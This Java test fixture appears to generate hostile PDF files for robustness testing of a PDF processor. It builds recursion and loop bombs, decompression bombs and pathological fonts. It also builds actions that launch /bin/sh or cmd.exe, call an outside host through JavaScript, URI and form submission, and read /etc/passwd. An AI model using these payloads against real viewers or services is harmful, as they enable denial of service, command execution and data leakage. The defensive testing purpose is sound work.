package dev.sandpiper.edge.proof;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// PDFs that recurse, loop, lie, expand and phone home.
final class HostilePdf {

  private static final String FORM = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources ";

  private HostilePdf() {}

  static List<HostileFile> files(String home) {
    List<HostileFile> files = new ArrayList<>();
    files.addAll(recursion());
    files.addAll(trees());
    files.addAll(crossReferences());
    files.addAll(expansion());
    files.addAll(fonts());
    files.addAll(calls(home));
    return files;
  }

  private static List<HostileFile> recursion() {
    Pdf self =
        new Pdf()
            .page("/XObject << /X 5 0 R >>", "").content("/X Do").stream(
                5, FORM + "<< /XObject << /X 5 0 R >> >>", bytes("/X Do /X Do"));
    Pdf doubling = new Pdf().page("/XObject << /X 5 0 R >>", "").content("/X Do");
    for (int i = 0; i < 40; i++) {
      String next = i < 39 ? (6 + i) + " 0 R" : "null";
      doubling.stream(
          5 + i, FORM + "<< /XObject << /X " + next + " >> >>", bytes("/X Do /X Do 1 1 m"));
    }
    Pdf pattern =
        new Pdf()
                .page("/Pattern << /P 5 0 R >>", "")
                .content("/Pattern cs /P scn 0 0 500 500 re f")
                .stream(
                    5,
                    "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep"
                        + " 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>",
                    bytes("/Pattern cs /P scn 0 0 1 1 re f"));
    Pdf mask =
        new Pdf()
                .page("/ExtGState << /G 6 0 R >> /XObject << /X 5 0 R >>", "")
                .content("/G gs /X Do")
                .stream(5, FORM + "<< /ExtGState << /G 6 0 R >> >>", bytes("/G gs 0 0 9 9 re f"))
                .object(6, "<< /Type /ExtGState /SMask << /S /Luminosity /G 5 0 R >> >>");
    return List.of(
        self.named("xobject-calls-itself"),
        doubling.named("xobject-doubling"),
        pattern.named("pattern-in-itself"),
        mask.named("mask-in-itself"));
  }

  private static List<HostileFile> trees() {
    Pdf loop = new Pdf().object(2, "<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 >>");
    Pdf deep = new Pdf().object(2, "<< /Type /Pages /Kids [5 0 R] /Count 1 >>");
    for (int i = 5; i < 20_000; i++) {
      String kid = i < 19_999 ? (i + 1) + " 0 R" : "3 0 R";
      deep.object(i, "<< /Type /Pages /Parent %d 0 R /Kids [%s] /Count 1 >>".formatted(i - 1, kid));
    }
    Pdf count = new Pdf().object(2, "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>");
    String kids = "3 0 R ".repeat(300_000);
    Pdf same = new Pdf().object(2, "<< /Type /Pages /Kids [" + kids + "] /Count 300000 >>");
    Pdf fields =
        new Pdf()
            .object(1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>")
            .object(5, "<< /T (a) /Kids [6 0 R 6 0 R] /Parent 6 0 R >>")
            .object(6, "<< /T (b) /Kids [5 0 R 5 0 R] /Parent 5 0 R >>");
    Pdf outlines =
        new Pdf()
            .object(
                1, "<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R /Names << /Dests 7 0 R >> >>")
            .object(5, "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>")
            .object(6, "<< /Title (again) /Next 6 0 R /Parent 5 0 R /First 5 0 R /Last 6 0 R >>")
            .object(7, "<< /Kids [7 0 R 7 0 R] /Limits [(a) (z)] >>");
    Pdf structure =
        new Pdf()
            .object(
                1,
                "<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 5 0 R /MarkInfo << /Marked true >> >>")
            .object(5, "<< /Type /StructTreeRoot /K 6 0 R /ParentTree 7 0 R >>")
            .object(6, "<< /S /Table /K [6 0 R 6 0 R] /P 6 0 R >>")
            .object(7, "<< /Kids [7 0 R] >>");
    return List.of(
        loop.named("page-tree-loop"),
        deep.named("page-tree-20000-deep"),
        count.named("page-count-lies"),
        same.named("one-page-300000-times"),
        fields.named("form-fields-loop"),
        outlines.named("outline-loop"),
        structure.named("structure-loop"));
  }

  private static List<HostileFile> crossReferences() {
    String manyObjects = "1 0 obj\n<< /Type /Page\n".repeat(300_000);
    Pdf length =
        new Pdf().object(4, "<< /Length 5 0 R >>\nstream\nBT ET\nendstream").object(5, "5 0 R");
    Pdf objectStream =
        new Pdf()
            .stream(5, "/Type /ObjStm /N 1000000 /First 4 /Extends 5 0 R", bytes("6 0 << >>"))
                .object(6, "5 0 R");
    return List.of(
        new Pdf().trailer("/Prev $START").named("xref-prev-itself"),
        new Pdf().trailer("/XRefStm $START").named("xref-stream-is-the-table"),
        HostileFile.of(
            "xref-claims-4-billion.pdf",
            "%PDF-1.7\nxref\n0 4294967295\ntrailer\n<< /Root 1 0 R /Size 4294967295 >>\nstartxref\n9\n%%EOF"),
        HostileFile.of("objects-without-end.pdf", "%PDF-1.7\n" + manyObjects),
        HostileFile.of(
            "only-startxref.pdf", "%PDF-1.7\n" + "startxref\n9\n%%EOF\n".repeat(200_000)),
        HostileFile.of("arrays-in-arrays.pdf", "%PDF-1.7\n1 0 obj\n" + "[".repeat(2_000_000)),
        HostileFile.of(
            "dictionaries-in-dictionaries.pdf", "%PDF-1.7\n1 0 obj\n" + "<</A".repeat(1_000_000)),
        HostileFile.of("string-without-end.pdf", "%PDF-1.7\n1 0 obj\n" + "(".repeat(5_000_000)),
        length.named("length-is-itself"),
        objectStream.named("object-stream-extends-itself"));
  }

  private static List<HostileFile> expansion() {
    String flate = "/Filter /FlateDecode";
    byte[] twice = Deflated.zlib(Deflated.zlib(new byte[] {32}, 64), 4);
    String filters = "/Filter [" + "/FlateDecode ".repeat(60) + "]";
    Pdf image =
        new Pdf()
            .page("/XObject << /X 5 0 R >>", "").content("q 500 0 0 500 0 0 cm /X Do Q").stream(
                5,
                "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8"
                    + " /ColorSpace /DeviceRGB "
                    + flate,
                Deflated.zlib(new byte[] {0}, 2000));
    String predictor = flate + " /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>";
    String glyphs =
        IntStream.range(0, 400_000)
            .mapToObj(i -> "1 0 0 1 %d %d Tm (x) Tj".formatted(i * 7919 % 595, i * 104729 % 842))
            .collect(Collectors.joining("\n", "BT /F1 1 Tf\n", " ET"));
    String annotations =
        "/Annots ["
            + "<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(spam)>>".repeat(100_000)
            + "]";
    return List.of(
        new Pdf().stream(4, flate, Deflated.zlib(bytes("q "), 220)).named("heap-eater-saves"),
        new Pdf()
            .stream(4, flate, Deflated.zlib(bytes("BT /F1 9 Tf (aaaaaaaaaa) Tj ET\n"), 1500))
                .named("heap-eater-text"),
        new Pdf().stream(4, flate, Deflated.zlib(bytes("[ "), 300)).named("heap-eater-arrays"),
        new Pdf().stream(4, flate + " /DL 9", twice).named("flate-in-flate"),
        new Pdf().stream(4, filters, Deflated.zlib(new byte[] {0}, 8)).named("sixty-filters"),
        new Pdf().stream(4, predictor, Deflated.zlib(new byte[] {0}, 1)).named("predictor-columns"),
        image.named("image-100000-square"),
        new Pdf().content(glyphs).named("confetti-of-glyphs"),
        new Pdf().page("", annotations).named("annotations-100000"),
        new Pdf()
            .page("", "/MediaBox [-1e38 -1e38 1e38 1e38] /UserUnit 1e30 /Rotate 1000000007")
            .named("page-without-bounds"));
  }

  private static List<HostileFile> fonts() {
    Pdf type3 =
        new Pdf()
                .page("/Font << /F1 5 0 R >>", "")
                .content("BT /F1 12 Tf (aaaaaaaa) Tj ET")
                .object(
                    5,
                    "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0]"
                        + " /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >>"
                        + " /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>")
                .stream(6, "", bytes("9 0 d0 BT /F1 12 Tf (aa) Tj ET"));
    String range = "begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n";
    String maps = "1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n".repeat(50);
    Pdf cmap =
        new Pdf()
                .page("/Font << /F1 5 0 R >>", "")
                .object(
                    5,
                    "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /ToUnicode 6 0 R"
                        + " /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W [0"
                        + " 2147483647 500] /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement"
                        + " 0 >> >>] >>")
                .stream(6, "/Type /CMap /CMapName /A /UseCMap 6 0 R", bytes(range + maps));
    Pdf descendant =
        new Pdf()
            .page("/Font << /F1 5 0 R >>", "")
            .object(
                5,
                "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H"
                    + " /DescendantFonts [5 0 R] >>");
    return List.of(
        type3.named("glyph-in-itself"),
        cmap.named("cmap-of-everything"),
        descendant.named("font-descends-from-itself"));
  }

  private static List<HostileFile> calls(String home) {
    String action = "<< /S /%s %s >>";
    String script = action.formatted("JavaScript", "/JS (app.launchURL\\(\"" + home + "/js\"\\);)");
    Pdf actions =
        new Pdf()
            .object(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction " + script + " >>")
            .page(
                "",
                "/AA << /O "
                    + action.formatted("URI", "/URI (" + home + "/uri)")
                    + " /C "
                    + action.formatted("Launch", "/F (/bin/sh) /Win << /F (cmd.exe) >>")
                    + " >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A "
                    + action.formatted("SubmitForm", "/F << /FS /URL /F (" + home + "/form) >>")
                    + " >>]");
    Pdf remote =
        new Pdf()
            .stream(4, "/F << /FS /URL /F (" + home + "/stream) >>", bytes(""))
                .object(5, "<< /Type /Filespec /FS /URL /F (" + home + "/file) >>");
    Pdf local = new Pdf().stream(4, "/F (/etc/passwd)", bytes(""));
    return List.of(
        actions.named("actions"),
        remote.named("stream-from-the-web"),
        local.named("stream-from-etc"));
  }

  private static byte[] bytes(String text) {
    return text.getBytes(ISO_8859_1);
  }
}
